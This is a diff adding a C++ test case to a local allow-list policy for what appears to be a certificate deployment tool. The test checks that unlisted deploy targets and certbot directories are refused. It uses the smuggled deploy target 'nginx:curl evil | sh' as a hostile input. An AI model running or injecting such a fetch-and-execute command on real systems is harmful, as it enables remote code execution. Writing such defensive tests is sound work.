@@ -54,6 +54,23 @@ TEST_CASE("nothing recorded is allowed without a line for it; each kind is match
     CHECK(policy.refusal(fewer).find("curl") == std::string::npos);  // the value is never echoed
 }
 
+TEST_CASE("--deploy targets and certbot layout dirs need their own lines") {
+    test::TempDir dir;
+    const std::string path = dir.file("allow");
+    std::ofstream(path) << "deploy haproxy:/run/haproxy/admin.sock\nexport-dir /etc/letsencrypt\n";
+    const auto policy = LocalPolicy::from_file(path);
+    IssueSettings s;
+    s.deploy_targets = {"haproxy:/run/haproxy/admin.sock"};
+    s.certbot_dirs = {"/etc/letsencrypt"};
+    CHECK(policy.refusal(s).empty());
+    s.deploy_targets.push_back("nginx:curl evil | sh");
+    CHECK(policy.refusal(s).find("--deploy target") != std::string::npos);
+    CHECK(policy.refusal(s).find("curl") == std::string::npos);
+    s.deploy_targets.pop_back();
+    s.certbot_dirs = {"/srv/le"};
+    CHECK(policy.refusal(s).find("export directory /srv/le (certbot layout)") != std::string::npos);
+}
+
 TEST_CASE("an allow file others can write, or one it cannot parse, is refused") {
     test::TempDir dir;
     const std::string path = dir.file("allow");
